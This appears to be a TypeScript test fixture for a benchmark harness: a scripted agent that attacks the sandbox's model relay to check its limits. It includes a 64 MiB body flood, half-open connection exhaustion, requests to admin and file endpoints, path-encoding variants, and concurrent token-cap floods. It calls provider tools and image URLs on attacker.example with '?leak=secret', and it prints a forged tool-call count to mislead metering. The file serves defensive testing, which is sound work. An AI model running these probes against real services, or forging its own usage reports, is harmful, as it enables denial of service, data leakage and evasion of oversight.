/**
 * Scripted agent `agent-relay_attacker`: attacks the host relay from inside
 * the sandbox (issue 7: runner memory, default deny, the token cap under
 * concurrency, the pinned model, `stream` and `n`, a prompt over the declared
 * context limit, a self-reported `tool_calls`) and writes what it observed to
 * `/workspace/relay_attack_report.json`.
 *
 * Attacks, selected by `LEDGERBENCH_ATTACK` (comma list), else by the model
 * name the runner gives it (`LEDGERBENCH_MODEL` of the form
 * `relay-attack:<list>`, so that one plan can hold one agent per attack),
 * else by a line `attack: <list>` in the task prompt:
 * - `big-body`: POSTs a 64 MiB body, produced lazily in 64 KiB chunks, to
 *   the chat endpoint; reports the status and how many bytes it had
 *   produced when the answer came (`offered_at_answer`: what the relay read
 *   before answering, plus what buffers on the way hold);
 * - `paths`: requests outside the model surface (`DELETE /v1/files/...`, an
 *   8 MiB `POST /v1/files`, an admin endpoint) and non-canonical variants of
 *   the model path (`%2F`, `//`, a trailing slash, a query); reports each
 *   status;
 * - `idle`: opens 200 connections, sends half a request's headers on each,
 *   and counts how many the other side closes within 30 s;
 * - `concurrent`: 30 concurrent calls with `max_tokens` 1000; reports the
 *   statuses;
 * - `shape`: a call naming another model, one with `"stream": "true"`, one
 *   with `n` 4; reports the statuses;
 * - `huge-prompt`: one call whose prompt says `HUGE PROMPT` (a test's
 *   scripted upstream reports a prompt over the declared context limit);
 * - `foreign-api` (issue 8): an agent that speaks only APIs the relay does
 *   not meter here (`POST /v1/embeddings`, and `/v1/messages` against an
 *   OpenAI upstream), and makes no other call.
 * - `cap-flood` (issue 21): 60 concurrent calls with `max_tokens` 1 and a
 *   400 kB prompt each; reports how many got each status;
 * - `uncapped-responses` (issue 21): one Responses call without
 *   `max_output_tokens`; reports the status;
 * - `features` (issue 21): one OpenAI call per provider feature (hosted
 *   Responses tools, Chat `web_search_options`, provider-stored state, URLs
 *   the provider would fetch, a data: URL); reports each status and error code;
 * - `features-messages` (issue 21): the same for the Messages API (server
 *   tools, `mcp_servers`, `container`, the `anthropic-beta` header), against
 *   `$ANTHROPIC_BASE_URL`, and makes no OpenAI call;
 * - `slow-call` (issue 21): one streamed call it waits for until the wall
 *   cap kills it (a test's upstream streams slowly past the cap).
 *
 * Then, unless `foreign-api` ran, it makes one ordinary call (so the episode is not a zero-call one)
 * and prints `{"tool_calls": 999}` as its last stdout line, a self-report the
 * runner must ignore.
 *
 * @module
 */
import { chat, readTask, WORKSPACE } from "./_model.ts";

const REPORT = `${WORKSPACE}/relay_attack_report.json`;
const report: Record<string, unknown> = { agent: "relay_attacker" };

function base(): string {
  const url = Deno.env.get("OPENAI_BASE_URL");
  if (!url) throw new Error('Cannot attack: "OPENAI_BASE_URL" is not set');
  return url.replace(/\/+$/, "");
}

function origin(): URL {
  return new URL(base());
}

function errorText(error: unknown): string {
  return error instanceof Error ? `${error.name}: ${error.message}` : String(error);
}

function chatBody(extra: Record<string, unknown> = {}, content = "attack"): string {
  return JSON.stringify({
    model: Deno.env.get("LEDGERBENCH_MODEL") ?? "scripted",
    messages: [{ role: "user", content }],
    ...extra,
  });
}

/** A request with its status, or the error it met. */
async function attempt(path: string, init: RequestInit): Promise<number | string> {
  try {
    const response = await fetch(`${origin().origin}${path}`, init);
    await response.body?.cancel();
    return response.status;
  } catch (error) {
    return errorText(error);
  }
}

async function bigBody(): Promise<void> {
  const total = 64 * 1024 * 1024;
  let offered = 0;
  const body = new ReadableStream<Uint8Array>({
    pull(controller) {
      if (offered >= total) return controller.close();
      offered += 65_536;
      controller.enqueue(new Uint8Array(65_536).fill(32));
    },
  }, { highWaterMark: 0 });
  let offeredAtAnswer = -1;
  let status: number | string;
  try {
    const response = await fetch(`${origin().origin}/v1/chat/completions`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body,
    });
    offeredAtAnswer = offered;
    status = response.status;
    await response.body?.cancel();
  } catch (error) {
    status = errorText(error);
  }
  report["big-body"] = { status, offered_at_answer: offeredAtAnswer, body_bytes: total };
}

async function paths(): Promise<void> {
  const json = { "content-type": "application/json" };
  const tries: Array<[string, string, string | undefined]> = [
    ["DELETE", "/v1/files/file-abc123", undefined],
    ["POST", "/v1/files", "x".repeat(8 * 1024 * 1024)],
    ["GET", "/v1/organization/admin_api_keys", undefined],
    ["POST", "/v1/chat%2Fcompletions", chatBody()],
    ["POST", "/v1//chat/completions", chatBody()],
    ["POST", "/v1/chat/completions/", chatBody()],
    ["POST", "/v1/chat/completions?x=1", chatBody()],
  ];
  const statuses: Record<string, number | string> = {};
  for (const [method, path, body] of tries) {
    statuses[`${method} ${path}`] = await attempt(path, { method, headers: json, body });
  }
  report.paths = statuses;
}

async function idle(): Promise<void> {
  const { hostname, port } = origin();
  const conns: Deno.Conn[] = [];
  for (let i = 0; i < 200; i++) {
    let conn: Deno.Conn;
    try {
      conn = await Deno.connect({ hostname, port: Number(port) });
    } catch {
      break;
    }
    conns.push(conn);
    // A connection the forwarder already closed may refuse the write: it still counts.
    await conn.write(new TextEncoder().encode("POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n"))
      .catch(() => 0);
  }
  let timer: ReturnType<typeof setTimeout> | undefined;
  const limit = new Promise<"open">((resolve) => timer = setTimeout(() => resolve("open"), 30_000));
  const ends = conns.map(async (conn) => {
    const buffer = new Uint8Array(1024);
    try {
      while ((await conn.read(buffer)) !== null) {
        // answers are not expected; only the close matters
      }
    } catch {
      // a reset counts as closed
    }
    return "closed" as const;
  });
  const outcomes = await Promise.all(ends.map((end) => Promise.race([end, limit])));
  clearTimeout(timer);
  for (const conn of conns) {
    try {
      conn.close();
    } catch {
      // closed by the other side
    }
  }
  report.idle = {
    opened: conns.length,
    closed_by_relay: outcomes.filter((o) => o === "closed").length,
  };
}

async function post(extra: Record<string, unknown>, content = "attack"): Promise<number | string> {
  return await attempt("/v1/chat/completions", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: chatBody(extra, content),
  });
}

async function concurrent(): Promise<void> {
  const statuses = await Promise.all(Array.from({ length: 30 }, () => post({ max_tokens: 1000 })));
  report.concurrent = { statuses };
}

async function shape(): Promise<void> {
  report.shape = {
    other_model: await post({ model: "gpt-4o-expensive" }),
    stream_string: await post({ stream: "true" }),
    n_4: await post({ n: 4 }),
  };
}

async function hugePrompt(): Promise<void> {
  report["huge-prompt"] = { status: await post({}, "HUGE PROMPT") };
}

/** Set by `foreign-api`: the agent speaks only what the relay does not meter. */
let skipFinalCall = false;

async function foreignApi(): Promise<void> {
  const json = { "content-type": "application/json" };
  const body = JSON.stringify({ model: "m", input: "attack" });
  report["foreign-api"] = {
    embeddings: await attempt("/v1/embeddings", { method: "POST", headers: json, body }),
    messages: await attempt("/v1/messages", {
      method: "POST",
      headers: { ...json, "anthropic-version": "2023-06-01" },
      body: JSON.stringify({ model: "m", max_tokens: 5, messages: [] }),
    }),
  };
  skipFinalCall = true;
}

async function capFlood(): Promise<void> {
  const prompt = "x".repeat(400_000);
  const statuses = await Promise.all(
    Array.from({ length: 60 }, () => post({ max_tokens: 1 }, prompt)),
  );
  const counts: Record<string, number> = {};
  for (const status of statuses) counts[String(status)] = (counts[String(status)] ?? 0) + 1;
  report["cap-flood"] = counts;
}

async function uncappedResponses(): Promise<void> {
  report["uncapped-responses"] = {
    status: await attempt("/v1/responses", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ model: Deno.env.get("LEDGERBENCH_MODEL"), input: "attack" }),
    }),
  };
}

/** A request's status and the error code of its answer (null: none). */
async function codeOf(
  url: string,
  body: Record<string, unknown>,
  headers: Record<string, string> = {},
): Promise<string> {
  try {
    const response = await fetch(url, {
      method: "POST",
      headers: { "content-type": "application/json", ...headers },
      body: JSON.stringify(body),
    });
    const text = await response.text();
    let code: unknown = null;
    try {
      const parsed = JSON.parse(text);
      code = parsed?.error?.code ?? parsed?.error?.details?.error_code ?? null;
    } catch {
      // a stream or a non-JSON answer
    }
    return `${response.status} ${code ?? "-"}`;
  } catch (error) {
    return errorText(error);
  }
}

const ATTACKER = "https://attacker.example";

async function features(): Promise<void> {
  const model = Deno.env.get("LEDGERBENCH_MODEL");
  const responses = (extra: Record<string, unknown>) =>
    codeOf(`${base()}/responses`, { model, input: "attack", max_output_tokens: 16, ...extra });
  const chatWith = (extra: Record<string, unknown>, content: unknown = "attack") =>
    codeOf(`${base()}/chat/completions`, {
      model,
      max_tokens: 16,
      messages: [{ role: "user", content }],
      ...extra,
    });
  const tool = (tool: Record<string, unknown>) => responses({ tools: [tool] });
  report.features = {
    web_search: await tool({ type: "web_search" }),
    web_search_preview: await tool({ type: "web_search_preview" }),
    file_search: await tool({ type: "file_search", vector_store_ids: ["vs_1"] }),
    code_interpreter: await tool({ type: "code_interpreter", container: { type: "auto" } }),
    image_generation: await tool({ type: "image_generation" }),
    mcp: await tool({ type: "mcp", server_label: "x", server_url: `${ATTACKER}/mcp` }),
    web_search_options: await chatWith({ web_search_options: {} }),
    store: await responses({ store: true }),
    previous_response_id: await responses({ previous_response_id: "resp_123" }),
    conversation: await responses({ conversation: "conv_123" }),
    prompt: await responses({ prompt: { id: "pmpt_123" } }),
    image_url: await chatWith({}, [
      { type: "text", text: "see" },
      { type: "image_url", image_url: { url: `${ATTACKER}/a.png?leak=secret` } },
    ]),
    input_file: await responses({
      input: [{
        role: "user",
        content: [{ type: "input_file", file_url: `${ATTACKER}/f.pdf` }],
      }],
    }),
    input_image: await responses({
      input: [{
        role: "user",
        content: [{ type: "input_image", image_url: `${ATTACKER}/i.png?leak=secret` }],
      }],
    }),
    data_url: await chatWith({}, [
      { type: "image_url", image_url: { url: "data:image/png;base64,iVBORw0KGgo=" } },
    ]),
  };
}

async function featuresMessages(): Promise<void> {
  const url = Deno.env.get("ANTHROPIC_BASE_URL")?.replace(/\/+$/, "");
  if (!url) throw new Error('Cannot attack: "ANTHROPIC_BASE_URL" is not set');
  const model = Deno.env.get("LEDGERBENCH_MODEL");
  const headers = { "anthropic-version": "2023-06-01", "x-api-key": "sandbox" };
  const messages = (extra: Record<string, unknown>, more: Record<string, string> = {}) =>
    codeOf(`${url}/v1/messages`, {
      model,
      max_tokens: 16,
      messages: [{ role: "user", content: "attack" }],
      ...extra,
    }, { ...headers, ...more });
  report["features-messages"] = {
    web_search: await messages({
      tools: [{ type: "web_search_20250305", name: "web_search", max_uses: 5 }],
    }),
    web_fetch: await messages(
      { tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] },
      { "anthropic-beta": "web-fetch-2025-09-10" },
    ),
    code_execution: await messages(
      { tools: [{ type: "code_execution_20250825", name: "code_execution" }] },
      { "anthropic-beta": "code-execution-2025-08-25" },
    ),
    mcp_servers: await messages(
      { mcp_servers: [{ type: "url", url: `${ATTACKER}/mcp`, name: "x" }] },
      { "anthropic-beta": "mcp-client-2025-04-04" },
    ),
    container: await messages({ container: "container_123" }),
    beta_header: await messages({}, { "anthropic-beta": "files-api-2025-04-14" }),
    plain: await messages({}),
  };
  skipFinalCall = true;
}

async function slowCall(): Promise<void> {
  report["slow-call"] = { started: true };
  await Deno.writeTextFile(REPORT, JSON.stringify(report, null, 2) + "\n");
  const response = await fetch(`${base()}/chat/completions`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: chatBody({ stream: true }),
  });
  report["slow-call"] = { status: response.status, body: await response.text() };
  skipFinalCall = true;
}

const ATTACKS: Record<string, () => Promise<void>> = {
  "cap-flood": capFlood,
  "uncapped-responses": uncappedResponses,
  features,
  "features-messages": featuresMessages,
  "slow-call": slowCall,
  "big-body": bigBody,
  paths,
  idle,
  concurrent,
  shape,
  "huge-prompt": hugePrompt,
  "foreign-api": foreignApi,
};

async function selected(): Promise<string[]> {
  const fromEnv = Deno.env.get("LEDGERBENCH_ATTACK");
  const model = Deno.env.get("LEDGERBENCH_MODEL") ?? "";
  const fromPrompt = /^attack:\s*(.+)$/m.exec(await readTask())?.[1];
  const list = fromEnv ??
    (model.startsWith("relay-attack:") ? model.slice("relay-attack:".length) : fromPrompt) ?? "";
  return list.split(",").map((name) => name.trim()).filter((name) => name in ATTACKS);
}

const modes = await selected();
report.modes = modes;
for (const mode of modes) {
  try {
    await ATTACKS[mode]();
  } catch (error) {
    report[mode] = { error: errorText(error) };
  }
  await Deno.writeTextFile(REPORT, JSON.stringify(report, null, 2) + "\n");
}
try {
  if (!skipFinalCall) {
    report.final_call = (await chat([{ role: "user", content: "final" }])).status;
  }
} catch (error) {
  report.final_call = errorText(error);
}
await Deno.writeTextFile(REPORT, JSON.stringify(report, null, 2) + "\n");
console.log(JSON.stringify({ tool_calls: 999 }));
